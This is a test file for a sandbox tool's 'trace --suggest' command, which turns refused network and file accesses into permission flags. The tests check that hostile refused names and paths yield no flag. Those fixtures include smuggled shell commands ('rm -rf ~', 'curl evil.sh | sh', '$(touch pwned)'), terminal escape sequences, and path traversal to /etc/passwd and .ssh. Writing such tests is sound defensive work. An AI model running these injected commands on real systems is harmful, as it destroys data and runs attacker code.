import type { TraceRecord } from '@mcpsandbox/core';
import { describe, expect, it } from 'vitest';
import { suggestGrants } from '../src/commands/suggest.js';

let seq = 0;
const record = (type: string, fields: Record<string, unknown>): TraceRecord => ({
  v: 1,
  ts: '2026-01-01T00:00:00.000Z',
  seq: seq++,
  type,
  ...fields,
});

describe('trace --suggest', () => {
  it('prints one flag per refused host, keeping ports other than 80 and 443, in first-refused order', () => {
    const { grants, skipped } = suggestGrants([
      record('sandbox.egress-denied', { host: 'api.github.com', via: 'dns' }),
      record('sandbox.egress-denied', { host: 'api.github.com', port: 443, via: 'proxy' }),
      record('sandbox.egress-denied', { host: 'db.example.com', port: 5432, via: 'proxy' }),
      record('sandbox.proxy', {
        decision: 'deny',
        method: 'CONNECT',
        host: 'cdn.example.net',
        port: 80,
        reason: 'not granted',
      }),
      record('sandbox.egress-denied', { host: 'fd00::1', port: 8080, via: 'proxy' }),
      record('sandbox.egress-denied', { host: 'API.GITHUB.COM', via: 'dns' }),
    ]);
    expect(grants).toEqual([
      '--allow-net api.github.com',
      '--allow-net db.example.com:5432',
      '--allow-net cdn.example.net',
      '--allow-net [fd00::1]:8080',
    ]);
    expect(skipped).toBe(0);
  });

  it('ignores granted traffic and refusals for where a granted name points', () => {
    const { grants } = suggestGrants([
      record('sandbox.proxy', { decision: 'allow', host: 'ok.example.com', port: 443 }),
      record('sandbox.proxy', {
        decision: 'deny',
        host: 'internal.example.com',
        port: 443,
        reason: 'resolves to 10.0.0.1 (private); grant it as an explicit IP',
      }),
      record('message', { dir: 'server->client', message: { host: 'x.example.com' } }),
    ]);
    expect(grants).toEqual([]);
  });

  it('never prints a refused name that a terminal could interpret', () => {
    const { grants, skipped } = suggestGrants([
      record('sandbox.egress-denied', { host: 'evil.com\u001b]0;pwned\u0007', via: 'dns' }),
      record('sandbox.egress-denied', { host: 'a b.com', via: 'dns' }),
      record('sandbox.egress-denied', { host: 'ok.example.com; rm -rf ~', via: 'dns' }),
      record('sandbox.egress-denied', { host: 42, via: 'dns' }),
      // Issue 20: a NUL that getaddrinfo stops at, shell code in a name, an invalid-name refusal.
      record('sandbox.egress-denied', { host: '203.0.113.7\u0000.granted.test', via: 'dns' }),
      record('sandbox.proxy', { decision: 'deny', host: 'x;{touch,m};x', port: 80, reason: 'not granted' }),
      record('sandbox.egress-denied', { via: 'dns', reason: 'invalid host name' }),
    ]);
    expect(grants).toEqual([]);
    expect(skipped).toBe(7);
  });
});

describe('trace --suggest on macOS Seatbelt denials', () => {
  it('prints the --mount that would allow each refused file, read-only for reads, rw for writes', () => {
    const { grants, skipped } = suggestGrants([
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/data/report.csv' }),
      record('sandbox.seatbelt-denial', { op: 'file-write-create', target: '/Users/alice/out' }),
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/data/report.csv' }),
      record('sandbox.seatbelt-denial', { op: 'file-read-metadata', target: '/Users/alice/my notes' }),
    ]);
    expect(grants).toEqual([
      '--mount /Users/alice/data/report.csv:/Users/alice/data/report.csv:ro',
      '--mount /Users/alice/out:/Users/alice/out:rw',
      "--mount '/Users/alice/my notes:/Users/alice/my notes:ro'",
    ]);
    expect(skipped).toBe(0);
  });

  it('a refused write to a git hook, shell startup file or agent setting gets no rw flag (it would lift the rule)', () => {
    const targets = [
      '/Users/alice/project/.git/hooks/pre-commit',
      '/Users/alice/project/.git/config',
      '/Users/alice/project/sub/.zshrc',
      '/Users/alice/project/.claude/settings.json',
      '/Users/alice/project/.git',
      '/Users/alice/project/.vscode/tasks.json',
    ];
    const { grants, skipped } = suggestGrants(
      targets.map((target) => record('sandbox.seatbelt-denial', { op: 'file-write-create', target })),
    );
    expect(grants).toEqual([]);
    expect(skipped).toBe(targets.length);
    // Reading them is another matter: a read-only mount is what the user would give.
    const read = suggestGrants([
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/project/.git/config' }),
    ]);
    expect(read.grants).toEqual([
      '--mount /Users/alice/project/.git/config:/Users/alice/project/.git/config:ro',
    ]);
  });

  it('a path the sandbox chose to be shell code, a terminal escape or a relative name gets no flag', () => {
    const { grants, skipped } = suggestGrants([
      record('sandbox.seatbelt-denial', {
        op: 'file-read-data',
        target: "/Users/alice/x'; curl evil.sh | sh; '",
      }),
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/$(touch pwned)' }),
      record('sandbox.seatbelt-denial', {
        op: 'file-read-data',
        target: '/Users/alice/\u001b]52;c;aGk=\u0007',
      }),
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '../../etc/passwd' }),
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/../../private/etc' }),
      record('sandbox.seatbelt-denial', {
        op: 'file-read-data',
        target: '/System/Volumes/Data/Users/alice/.ssh',
      }),
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/dev/ttys001' }),
      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: 7 }),
      record('sandbox.seatbelt-denial', {
        op: 'mach-lookup',
        target: 'com.apple.coreservices.launchservicesd',
      }),
    ]);
    expect(grants).toEqual([]);
    expect(skipped).toBe(8);
  });
});
